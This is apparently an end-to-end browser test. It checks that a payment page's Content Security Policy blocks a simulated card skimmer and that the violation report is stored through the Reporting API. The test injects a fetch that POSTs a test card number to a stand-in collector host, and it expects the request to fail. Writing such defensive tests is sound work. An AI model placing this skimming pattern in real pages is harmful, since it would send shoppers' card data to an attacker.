import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { sql } from './support/db';
import { expect, test } from './support/fixtures';
import { NGINX, startNginx } from './support/nginx';
import { E2E, FULL_BROWSER } from './support/settings';
import { CHROMIUM_FLAGS, findChromium } from '../scripts/chromium';

/**
 * Over HTTPS (behind nginx, as deployed) the payment page also names a Reporting API endpoint
 * (`report-to` and `Reporting-Endpoints`), which Chromium then uses instead of `report-uri`: a
 * real browser's `application/reports+json` report must be stored. The edge's origin is one of
 * the site's (SITE_ORIGIN_ALIASES in playwright.config.ts).
 */
test.skip(!existsSync(NGINX), 'nginx is not installed (apt-get install nginx)');
// Chromium's own testing switch sends Reporting API reports after 100 ms instead of batching
// them for up to a minute.
test.use({
  ignoreHTTPSErrors: true,
  launchOptions: {
    executablePath: findChromium() || undefined,
    args: [...CHROMIUM_FLAGS, '--short-reporting-delay'],
  },
});

let edge: Awaited<ReturnType<typeof startNginx>>;
test.beforeAll(async () => {
  edge = await startNginx(E2E.sitePort, E2E.edgePort);
});
test.afterAll(async () => {
  await edge?.stop();
});

test(
  'over HTTPS a blocked skimmer is reported through the Reporting API and stored',
  { tag: FULL_BROWSER },
  async ({ page }) => {
    const site = `https://127.0.0.1:${edge.port}`;
    const response = await page.goto(`${site}/online-payment`);
    const headers = response!.headers();
    expect(headers['reporting-endpoints']).toBe('csp-endpoint="/api/csp-report"');
    expect(headers['content-security-policy']).toContain('report-to csp-endpoint');
    const collector = `http://127.0.0.1:${E2E.standInHttpPort}/collect-${randomUUID()}`;
    const sent = await page.evaluate(
      (url) =>
        fetch(url, { method: 'POST', body: 'card=4111111111111111' }).then(
          () => true,
          () => false,
        ),
      collector,
    );
    expect(sent).toBe(false);
    await expect
      .poll(
        async () =>
          (
            await sql<{ documentPath: string; directive: string; count: number }>(
              `SELECT "documentPath", directive, count FROM "CspReport" WHERE "blockedUri" = $1`,
              [collector],
            )
          )[0],
        { timeout: 20_000 },
      )
      .toEqual({ documentPath: '/online-payment', directive: 'connect-src', count: 1 });
  },
);
